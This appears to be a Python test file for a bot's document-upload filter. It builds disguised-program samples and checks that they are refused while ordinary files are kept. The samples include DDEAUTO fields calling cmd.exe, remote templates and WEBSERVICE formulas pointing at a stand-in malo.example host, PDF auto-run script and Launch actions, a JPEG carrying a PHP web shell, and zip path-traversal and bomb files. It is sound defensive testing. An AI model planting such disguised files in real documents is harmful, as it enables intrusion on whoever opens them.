"""Programs disguised as documents are refused; ordinary documents are accepted."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from bot.evidence.kinds import archive
from bot.evidence.kinds.sniffing import Sniffed, sniff
from tests.bot.evidence.evidence_stage import rows, with_card
from tests.support.files import documents as made
from tests.support.files import photographs
from tests.support.phones.stage import Stage

INVOICE = b'<?xml version="1.0"?>\n<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0"/>'
JPEG = photographs.drawn()
ZIP = made.zipped({"a.txt": b"hola"})
RELS = "word/_rels/document.xml.rels"
MACROS = b"x" + bytes(10)


def gif(tail: bytes) -> bytes:
    return photographs.moving() + tail


def with_script(inside: bool) -> bytes:
    """Return a PDF that runs a script when opened; `inside` a compressed object stream."""
    if not inside:
        return with_action("/JavaScript", "/JS")
    return packed_objects(b"<</S /JavaScript /JS (app.alert\\(1\\))>>")


def packed_objects(said: bytes, name: bytes = b"/OpenAction") -> bytes:
    """Return a PDF whose objects 1 to 4 are in a compressed stream, found by a cross-reference stream."""
    import zlib

    objects = [
        b"<</Type /Catalog /Pages 2 0 R " + name + b" 4 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>",
        said,
    ]
    index, body = b"", b""
    for number, each in enumerate(objects, 1):
        index += b"%d %d " % (number, len(body))
        body += each + b" "
    stream = zlib.compress(index + body)
    out = b"%PDF-1.7\n"
    at5 = len(out)
    out += b"5 0 obj\n<</Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d>>\nstream\n" % (
        *(len(index), len(stream)),
    )
    out += stream + b"\nendstream\nendobj\n"
    at6 = len(out)
    rows = [b"\0\0\0\0", *(bytes([2, 0, 5, n]) for n in range(4)), bytes([1, *at5.to_bytes(2, "big"), 0])]
    rows.append(bytes([1, *at6.to_bytes(2, "big"), 0]))
    table = b"".join(rows)
    out += b"6 0 obj\n<</Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d>>\nstream\n" % len(table)
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at6


def with_action(kind: str, what: str = "/F") -> bytes:
    writer = made.pdf()
    action = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject(what): TextStringObject("a.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    return made.written(writer)


def action(kind: str, **more: str) -> DictionaryObject:
    """Return the action of a PDF when it is opened, or when something in it is tapped."""
    said = {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **said})


def opening(done: DictionaryObject, apart: bool = True) -> bytes:
    """Return a PDF whose action runs when it is opened; `apart` puts it into an object of its own."""
    writer = made.pdf()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(done) if apart else done
    return made.written(writer)


def after(first: DictionaryObject, second: DictionaryObject) -> DictionaryObject:
    first[NameObject("/Next")] = ArrayObject([second])
    return first


def shown(done: DictionaryObject, event: str = "O") -> bytes:
    """Return a PDF whose action runs when the first page is shown."""
    writer = made.pdf()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject(f"/{event}"): done})
    return made.written(writer)


def tapped(done: DictionaryObject) -> bytes:
    """Return a PDF whose action runs when a link is tapped."""
    writer = made.pdf()
    link = Link(rect=(0, 0, 9, 9), url="https://www.sat.gob.mx")
    link[NameObject("/A")] = done
    writer.add_annotation(0, link)
    return made.written(writer)


def formula(said: str, part: str = "xl/worksheets/sheet1.xml", element: str = "f") -> bytes:
    body = f"<x><c r='A9'><{element}>{said}</{element}><v>1</v></c></x>".encode()
    return made.with_parts(made.workbook(), {part: body})


def connection(said: str, **attributes: str) -> bytes:
    more = " ".join(f"{name}='{value}'" for name, value in attributes.items())
    body = f"<connections><connection id='1' name='x' {more}>{said}</connection></connections>"
    return made.with_parts(made.workbook(), {"xl/connections.xml": body.encode()})


def linked_book(target: str) -> bytes:
    rels = made.relations("externalLinkPath", target)
    return made.with_parts(made.workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def with_file() -> bytes:
    writer = made.pdf()
    writer.add_attachment("a.exe", b"MZ")
    return made.written(writer)


def locked_pdf() -> bytes:
    writer = made.pdf()
    writer.encrypt("secreto")
    return made.written(writer)


def replaced_later(content: bytes) -> bytes:
    """Return a PDF of which a later revision replaces the harmful object."""
    return content + b"\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


def template(target: str, encoding: str = "utf-8") -> bytes:
    rels = made.relations("attachedTemplate", target, encoding=encoding)
    return made.with_parts(made.word(), {"word/_rels/settings.xml.rels": rels})


def field(*runs: str) -> bytes:
    said = '<w:fldChar w:fldCharType="begin"/>' + "".join(
        f"<w:instrText>{each}</w:instrText>" for each in runs
    )
    body = b"<w:body><w:p><w:r>" + said.encode() + b"</w:r></w:p>"
    return made.with_parts(made.word(), {}, document=(b"<w:body>", body))


def excel(*records: tuple[int, bytes]) -> bytes:
    return made.ole({"Workbook": made.records((0x809, bytes(16)), *records)})


SHEET = bytes(4) + b"\0\0\1\0A"  # a worksheet's record

REFUSED = {
    "macros by their type alone": made.with_parts(
        made.word(), {"word/datos.bin": MACROS}, types=(made.MAIN, made.MACRO_MAIN)
    ),
    "renamed macros": made.with_parts(made.word(), {"word/datos.bin": made.ole({"PROJECT": b"x"})}),
    "macros of Excel 4": made.with_parts(
        made.workbook(),
        {},
        types=(b"</Types>", b'<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'),
    ),
    "template from the web": template("https://malo.example/p.dotm"),
    "template from another machine": template("file://malo.example/p.dotm"),
    "template by a share": template(r"\\malo\p.dotm"),
    "template, in another encoding": template("http://malo.example/p.dotm", "utf-16"),
    "template, spelt in numbers": template("&#104;ttp://malo.example/p.dotm"),
    "object": made.with_parts(made.word(), {RELS: made.relations("oleObject", "embeddings/a.bin", mode="")}),
    "object from elsewhere": made.with_parts(
        made.word(), {RELS: made.relations("oleObject", "mhtml:http://x!y")}
    ),
    "frame from elsewhere": made.with_parts(made.word(), {RELS: made.relations("frame", "http://x/y")}),
    "picture from a share": made.with_parts(made.word(), {RELS: made.relations("image", r"\\malo\a.png")}),
    "web page inside": made.with_parts(
        made.word(), {RELS: made.relations("aFChunk", "/word/a.html", mode="")}
    ),
    "ActiveX": made.with_parts(
        made.word(), {RELS: made.relations("control", "activeX/activeX1.xml", mode="")}
    ),
    "DDE": field(" DDEAUTO c:\\windows\\system32\\cmd.exe "),
    "DDE in pieces": field(" DD", "EAU", "TO cmd "),
    "DDE in numbers": field(" QUOTE 67 77 68 46 "),
    "DDE of Excel": made.with_parts(
        made.workbook(),
        {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
    ),
    "DDE in a cell": made.with_parts(
        made.workbook(), {"xl/worksheets/sheet7.xml": b"<c><f ca='1'>cmd|'/c calc'!A0</f></c>"}
    ),
    "a formula that loads": formula('_xlfn.WEBSERVICE("http://malo.example")'),
    "a formula that loads, in lower case": formula('1+webservice ("http://malo.example")'),
    "a formula that loads, in numbers": formula("_xlfn.WEB&#83;ERVICE(A1)"),
    "a formula that loads, in pieces": formula("_xlfn.WEB<![CDATA[SERVICE]]>(A1)"),
    "a formula that loads, with a remark": formula("_xlfn.WEB<!-- x -->SERVICE(A1)"),
    "a formula that loads, with a prefix": formula("_xlfn.WEBSERVICE(A1)", element="x:f"),
    "a formula that asks a program": formula('RTD("malo.Servidor",,"x")'),
    "a name that loads": formula("_xlfn.WEBSERVICE(A1)", part="xl/workbook2.xml", element="definedName"),
    "a rule that loads": formula("_xlfn.WEBSERVICE(A1)=1", element="formula1"),
    "DDE in a cell, in numbers": formula("cmd&#124;'/c calc'!A0"),
    "DDE in a cell, further on": formula("1+cmd|'/c calc'!A0"),
    "a workbook of the web": linked_book("https://malo.example/libro.xlsx"),
    "a workbook of another machine": linked_book(r"file:///\\malo\c\libro.xlsx"),
    "a query of the web": connection("<webPr url='http://malo.example'/>", type="4"),
    "a query of a database": connection("<dbPr connection='Provider=SQLOLEDB;Data Source=malo'/>", type="5"),
    "a query by the minute": connection("<textPr sourceFile='C:\\a.csv'/>", interval="5"),
    "a query of a file elsewhere": connection("<textPr sourceFile='\\\\malo\\a.csv'/>", type="6"),
    "a table that asks again when opened": made.with_parts(
        made.workbook(), {"xl/queryTables/queryTable1.xml": b"<queryTable refreshOnLoad='true'/>"}
    ),
    "Word with another document's part": field(' LINK Excel.Sheet.8 "\\\\malo\\a.xlsx" '),
    "Word with a database": field(' DATABASE \\d "\\\\malo\\a.mdb" '),
    "slides that start a program": made.with_parts(
        made.word(), {"ppt/slides/slide1.xml": b"<a:hlinkClick action='ppaction://program' r:id='r1'/>"}
    ),
    "a formula that loads in LibreOffice": made.open_document(
        {"content.xml": b'<a table:formula="of:=WEBSERVICE(&quot;http://malo.example&quot;)"/>'}
    ),
    "DDE in LibreOffice": made.open_document(
        {"content.xml": b'<a table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>'}
    ),
    "old Excel with a formula that loads": excel((0x85, SHEET), (0x23, bytes(6) + b"\x10\0_xlfn.WEBSERVICE")),
    "old Excel with a query of the web": excel((0x85, SHEET), (0x803, b"\3\x08\0\0\4\0" + bytes(30))),
    "table with a formula that loads": b'a;b\n=WEBSERVICE("http://malo.example/"&A1);1\n',
    "table with one in Spanish": b'a;b\n"=SERVICIOWEB(""http://malo.example"")";1\n',
    "a connection between others": made.with_parts(
        made.workbook(),
        {
            "xl/connections.xml": b"<connections><connection id='1' refreshOnLoad='1'/>"
            b"<connection id='2' refreshOnLoad='0'/></connections>"
        },
    ),
    "program as a picture of Word": made.with_parts(made.word(), {"word/media/i.png": b"MZ\x90" + bytes(99)}),
    "program in LibreOffice": made.open_document({"Pictures/i.png": b"\x7fELF" + bytes(99)}),
    "macros of LibreOffice": made.open_document({"Basic/Standard/Modulo1.xml": b"<script:module/>"}),
    "a script's event in LibreOffice": made.open_document(
        {"content.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}
    ),
    "a section from the web": made.open_document(
        {"content.xml": b'<a><text:section-source xlink:href="http://x/y.odt"/></a>'}
    ),
    "an object in LibreOffice": made.open_document({"Object 1": made.ole({"Package": b"x"})}),
    "old Word with macros": made.ole({"WordDocument": b"x"}, ("Macros",)),
    "old Excel with macros": made.ole({"Workbook": b"x"}, ("_VBA_PROJECT_CUR",)),
    "old Excel's macro sheet": excel((0x85, bytes(4) + b"\0\1\1\0A")),
    "old Excel starting a program": excel((0x85, SHEET), (0x1AE, b"\1\0\5\0\0cmd\3/")),
    "old Word with an object": made.ole({"WordDocument": b"x", "\x01Ole10Native": b"x"}),
    "old Excel with an object": made.ole({"Workbook": b"x"}, ("MBD00012345",)),
    "old Word's template": made.ole(
        {"WordDocument": b"x", "1Table": "http://malo.example/p.dot".encode("utf-16-le")}
    ),
    "old Word with DDE": made.ole({"WordDocument": b"\xec\xa5" + bytes(30) + b"\x13 DDEAUTO cmd \x14"}),
    "old PowerPoint with macros": made.ole({"PowerPoint Document": b"\x0f\0\xff\x03\x08\0\0\0" + bytes(8)}),
    "RTF with an object": rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}",
    "RTF in disguise": rb"{\rt {\objupdate{\objdata 01}}}",
    "RTF's template": rb"{\rtf1{\*\template http://malo.example/p.dotm}}",
    "RTF after blanks": rb"  {\rtf1 {\object\objemb{\*\objdata 0105}}}",
    "RTF with DDE": rb"{\rtf1{\field{\*\fldinst{\b DDEAU}{TO cmd}}}}",
    "PDF with a script": with_script(False),
    "PDF with a packed script": with_script(True),
    "PDF with an escaped script": with_script(False)
    .replace(b"/JavaScript", b"/Java#53cript")
    .replace(b"/JS", b"/#4aS"),
    "PDF with a script replaced later": replaced_later(with_script(False)),
    "PDF that starts a program": with_action("/Launch"),
    "PDF that opens a page of the web": opening(action("URI", URI="http://malo.example")),
    "PDF that opens one, within its catalogue": opening(action("URI", URI="http://malo.example"), False),
    "PDF that opens one after a page of its own": opening(
        after(action("GoTo"), action("URI", URI="http://malo.example"))
    ),
    "PDF that opens another document": opening(action("GoToR", F="otro.pdf")),
    "PDF that sends something": opening(action("SubmitForm", F="http://malo.example")),
    "PDF whose page opens one of the web": shown(action("URI", URI="http://malo.example")),
    "PDF whose page opens a document": shown(action("GoToR", F="otro.pdf"), "C"),
    "PDF with a button that sends": tapped(action("SubmitForm", F="http://malo.example")),
    "PDF with a link to a share": tapped(action("GoToR", F=r"\\malo\a.pdf")),
    "PDF with a link that starts a program": tapped(action("Launch", F="cmd.exe")),
    "PDF with a packed action": packed_objects(b"<</S /URI /URI (http://malo.example)>>"),
    "damaged PDF that opens a page of the web": b"%PDF-1.4\n1 0 obj\n<</OpenAction <</S /URI /URI (http://x)>>>>",
    "PDF with a file": with_file(),
    "PDF and web page": b"<html><script>1</script>\n" + made.written(made.pdf()),
    "PDF and zip": made.written(made.pdf()) + ZIP,
    "picture and PDF": gif(b"")[:800] + made.written(made.pdf()),
    "picture and zip": JPEG + ZIP,
    "picture and PHP": JPEG + b"<?PHP system($_GET[0]); ?>",
    "picture and web page": gif(b"<ScRiPt>alert(1)</script>"),
    "picture and script": b"GIF89a/*" + photographs.moving()[8:] + b"*/=1;alert(1)",
    "picture and another archive": JPEG + b"Rar!\x1a\x07\x01\x00",
    "zip in a zip": made.zipped({"fotos/1.jpg": JPEG, "otro.zip": ZIP}),
    "zip in a zip by another name": made.zipped({"foto.jpg": ZIP}),
    "another archive in a zip": made.zipped({"otro.dat": b"7z\xbc\xaf\x27\x1c" + bytes(40)}),
    "program in a zip by another name": made.zipped({"foto.jpg": b"MZ\x90\0" + bytes(100)}),
    "document with macros in a zip": made.zipped({"a.doc": made.ole({"WordDocument": b"x"}, ("Macros",))}),
    "zip that leads out of its folder": made.zipped({"../../.bashrc": b"hola"}),
    "web page as text": b"\n\n<!-- hola --><p>x",
    "page with a table": b"<table><tr><td onclick='x()'>",
    "script further below": b"hola\n" * 40_000 + b"<script>alert(1)</script>",
    "link of Windows": b"[InternetShortcut]\r\nURL=http://malo.example\r\n",
    "link of Windows after a remark": b"; nota\r\n\r\n[InternetShortcut]\r\nURL=http://malo.example\r\n",
    "table in the symbols of Multiplan": b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc")\r\n',
    "view of a folder from another machine": made.zipped(
        {"desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\malo\\a.ico\r\n"}
    ),
    "starter of Linux": b"[Desktop Entry]\nExec=sh\n",
    "link of a Mac": b"<?xml version='1.0'?>\n<!DOCTYPE plist PUBLIC ''><plist/>",
    "table that starts a program": b"a;b\n=cmd|' /C calc'!A0;1\n",
    "script of Windows": b'Set a = CreateObject("WScript.Shell")\n',
    "script of PowerShell": b"powershell -enc AAAA",
    "script of Python": b"import os\nos.system('x')\n",
    "invoice that loads a style": INVOICE.replace(b"?>\n", b"?><?xml-stylesheet href='http://x'?>"),
    "invoice with a script": INVOICE.replace(
        b"/>", b"><x xmlns='http://www.w3.org/1999/xhtml'/></cfdi:Comprobante>"
    ),
    "drawing with a script": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
}


def seen(folder: Path, content: bytes, name: str) -> Sniffed:
    path = folder / "content"
    path.write_bytes(content)
    return sniff(path, name)


@pytest.mark.parametrize("what", REFUSED)
def test_a_disguised_program_is_refused(tmp_path: Path, what: str) -> None:
    assert seen(tmp_path, REFUSED[what], "acta.pdf") == Sniffed(reason="program")


@pytest.mark.parametrize(
    "name",
    [
        "a.url",
        "a.lnk",
        "a.desktop",
        "a.webloc",
        "a.scf",
        "a.hta",
        "a.HTML",
        "a.exe ",
        "a.exe...",
        "foto\u202egpj.scr",
    ],
)
def test_names_that_a_computer_would_open_are_refused(tmp_path: Path, name: str) -> None:
    assert seen(tmp_path, JPEG, name) == Sniffed(reason="program")
    assert seen(tmp_path, made.zipped({name.strip(): b"hola"}), "a.zip") == Sniffed(reason="program")


def with_link(mode: str, target: str) -> bytes:
    return made.with_parts(made.word(), {"word/_rels/footnotes.xml.rels": made.relations(mode, target)})


def chart_of_word() -> bytes:
    rels = made.relations("package", "../embeddings/Libro1.xlsx", mode="")
    parts = {"word/charts/_rels/chart1.xml.rels": rels, "word/embeddings/Libro1.xlsx": made.workbook()}
    return made.with_parts(made.word(), parts)


def linked_pdf() -> bytes:
    writer = made.pdf()
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.sat.gob.mx"))
    writer.add_metadata({"/Title": "Manual de JavaScript: uso de /JS"})
    return made.written(writer)


def of_libreoffice() -> bytes:
    """Return the catalogue and the links of a PDF as LibreOffice writes them."""
    link = "<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[0 0 9 9]/A<</Type/Action/S/URI/URI({})>>>>"
    links = "".join(map(link.format, ("https://www.sat.gob.mx/", "mailto:a@b.mx", "anexo.pdf")))
    return (
        f"%PDF-1.6\n1 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[{links}]>>\nendobj\n"
        "2 0 obj\n<</Type/Pages/Kids[1 0 R]/Count 1>>\nendobj\n"
        "3 0 obj\n<</Type/Catalog/Pages 2 0 R\n/OpenAction[1 0 R /XYZ null null 0]\n/Lang(es-MX)>>\nendobj\n"
        "trailer\n<</Size 4/Root 3 0 R>>\n%%EOF\n"
    ).encode()


def at_its_page(kind: str) -> bytes:
    """Return a PDF that opens at a certain page, by a destination or by an action."""
    writer = made.pdf()
    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    done = action("GoTo")
    done[NameObject("/D")] = place
    writer.root_object[NameObject("/OpenAction")] = place if kind == "place" else done
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.sat.gob.mx"))
    return made.written(writer)


def owner_locked() -> bytes:
    """Return a PDF that opens without a password; only changing it needs one."""
    writer = made.pdf()
    writer.encrypt("", "dueño")
    return made.written(writer)


KEPT = {
    "Word": ("a.docx", made.word()),
    "Word with a link": ("a.docx", with_link("hyperlink", "https://www.sat.gob.mx/ddeauto import")),
    "Word with a picture of the web": ("a.docx", with_link("image", "https://x.example/a.png")),
    "Word of a template of one's own": (
        "a.docx",
        template("file:///C:\\Users\\Ana\\Plantillas\\Oficio.dotx"),
    ),
    "Word with a chart": ("a.docx", chart_of_word()),
    "Word that tells of DDE": ("a.docx", field(" HYPERLINK &quot;https://x/dde&quot; ")),
    "Excel": ("a.xlsx", made.workbook()),
    "old Word": ("a.doc", made.ole({"WordDocument": b"\xec\xa5" + bytes(600), "1Table": b"x"})),
    "old Excel": ("a.xls", excel((0x85, SHEET), (0x1AE, b"\1\0\1\4"))),
    "old PowerPoint": ("a.ppt", made.ole({"PowerPoint Document": b"\x0f\0\xe8\x03\0\0\0\0"})),
    "LibreOffice": ("a.odt", made.open_document({"Object 1/content.xml": b"<a/>", "meta.xml": b"<a/>"})),
    "RTF": ("a.rtf", rb"{\rtf1\ansi{\*\template C:\\Users\\Ana\\Normal.dotm}{\fldinst HYPERLINK x} Objeto}"),
    "PDF": ("a.pdf", made.written(made.pdf())),
    "PDF with links": ("a.pdf", linked_pdf()),
    "PDF of LibreOffice with links": ("a.pdf", of_libreoffice()),
    "PDF that opens at a page": ("a.pdf", at_its_page("place")),
    "PDF that opens at a page by an action": ("a.pdf", at_its_page("action")),
    "PDF that prints itself": ("a.pdf", opening(action("Named", N="/Print"))),
    "PDF with a link to a document beside it": ("a.pdf", tapped(action("GoToR", F="anexo.pdf"))),
    "PDF with a link of its own object": ("a.pdf", tapped(action("URI", URI="https://www.sat.gob.mx"))),
    "Excel with formulas": ("a.xlsx", formula("SUM('Metas | 2024'!A1:A3)&amp;\"a|b: WEBSERVICE(x)\"")),
    "Excel with a column so called": ("a.xlsx", formula("SUM(Metas[[#This Row],[Meta|Avance]])")),
    "Excel with a text that names one": ("a.xlsx", formula("La función WEBSERVICE(x)", element="t")),
    "Excel with a workbook of one's own": ("a.xlsx", linked_book("file:///C:\\Users\\Ana\\Metas.xlsx")),
    "Excel with a workbook beside it": ("a.xlsx", linked_book("Metas%202024.xlsx")),
    "Excel that tidied its own table": (
        "a.xlsx",
        connection("<dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$'/>", type="5"),
    ),
    "Excel with a text of one's own": ("a.xlsx", connection("<textPr sourceFile='C:\\a.csv'/>", type="6")),
    "Word with a hint": ("a.docx", field(' HYPERLINK "https://x" \\o "el link del acta" ')),
    "PDF with packed objects": ("a.pdf", packed_objects(b"[3 0 R /Fit]")),
    "PDF that only its owner changes": ("a.pdf", owner_locked()),
    "invoice": ("a.xml", INVOICE),
    "invoice without a prefix": (
        "a.xml",
        b'<?xml version="1.0"?><Comprobante xmlns="http://www.sat.gob.mx/cfd/4"/>',
    ),
    "table": ("a.csv", "ID;Programación;Año\n1;=SUMA(A1:A2);2024\n-2;-3;@ana\n".encode()),
    "text about programs": ("a.txt", "Curso de JavaScript: introducción, PowerShell y cmd. <Anexo>".encode()),
    "zip of pictures": (
        "a.zip",
        made.zipped({"f/1.jpg": JPEG, "f/2.jpg": JPEG, "__MACOSX/._1.jpg": b"\0\5\x16\7"}),
    ),
    "zip of a folder of Windows": (
        "a.zip",
        made.zipped({"f/1.jpg": JPEG, "f/desktop.ini": b"[.ShellClassInfo]\r\nIconIndex=3\r\n"}),
    ),
    "zip of documents": (
        "a.zip",
        made.zipped({"a.docx": made.word(), "b.xlsx": made.workbook(), "c.xml": INVOICE}),
    ),
    "picture with what a telephone adds": ("a.jpg", JPEG + bytes(range(256)) * 40),
}


@pytest.mark.parametrize("what", KEPT)
def test_ordinary_documents_are_kept(tmp_path: Path, what: str) -> None:
    name, content = KEPT[what]
    found = seen(tmp_path, content, name)
    assert found.media_type is not None, found


@pytest.mark.parametrize(
    ("content", "reason", "detail"),
    [
        (locked_pdf(), "unreadable_kind", "locked"),
        (made.ole({"EncryptedPackage": b"x"}), "unreadable_kind", "locked"),
        (excel((0x2F, bytes(6))), "unreadable_kind", "locked"),
        (made.zipped({"a.txt": b"0" * 60_000_000}), "program", "nested"),
        (REFUSED["zip in a zip"], "program", "nested"),
        (REFUSED["PDF with a file"], "program", "carries"),
        (REFUSED["template from the web"], "program", "loads"),
        (REFUSED["picture and zip"], "program", "disguised"),
    ],
)
def test_the_refusal_names_the_kind_of_disguise(
    tmp_path: Path, content: bytes, reason: str, detail: str
) -> None:
    found = seen(tmp_path, content, "acta")
    assert (found.reason, found.detail) == (reason, detail)


def test_a_decompression_bomb_is_not_unpacked_whole(tmp_path: Path) -> None:
    blank = b" " * (archive.LARGEST_MEMBER - 1)
    content = made.zipped({f"{each}.txt": blank for each in range(archive.MOST_UNPACKED // len(blank) + 1)})
    assert seen(tmp_path, content, "a.zip").detail == "nested"
    lies = bytearray(made.zipped({"a.txt": b"hola" * 1000}))
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        place = lies.index(mark) + at
        lies[place : place + 4] = (5).to_bytes(4, "little")
    assert seen(tmp_path, bytes(lies), "a.zip").media_type is None


def test_entries_that_share_their_content_are_a_bomb(tmp_path: Path) -> None:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("a", bytes(1000))
        first = target.infolist()[0]
        for name in "bcd":
            other = zipfile.ZipInfo(name)
            for each in ("CRC", "compress_size", "file_size", "header_offset"):
                setattr(other, each, getattr(first, each))
            target.filelist.append(other)
            target.NameToInfo[name] = other
    assert seen(tmp_path, out.getvalue(), "a.zip").media_type is None


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("acta.docx", REFUSED["template from the web"], "al abrirse trae o arranca algo de otra parte"),
        ("acta.doc", REFUSED["old Word with macros"], "por dentro es un programa o lleva uno"),
        ("acta.pdf", locked_pdf(), "pide contraseña para abrirse"),
        ("foto.jpg", REFUSED["picture and PHP"], "dos tipos de archivo a la vez"),
    ],
)
async def test_a_refused_sender_is_told_why_and_what_to_do(
    stage: Stage, name: str, content: bytes, said: str
) -> None:
    ana, card = await with_card(stage)
    await ana.send_file(name, content, reply_to=card.id)
    told = await ana.wait_for("No guardé")
    assert said in told.text and ("nvíe" in told.text)
    (row,) = rows(stage)
    assert row.refused_at is not None and row.sha256 is None


async def test_an_ordinary_document_becomes_evidence(stage: Stage) -> None:
    ana, card = await with_card(stage)
    await ana.send_file("acta.docx", made.word(), reply_to=card.id)
    await ana.wait_for("1 documento")
    for _ in range(300):
        (row,) = rows(stage)
        if row.fetched_at:
            break
        await stage.settled()
    assert row.media_type == made.WORD_TYPE
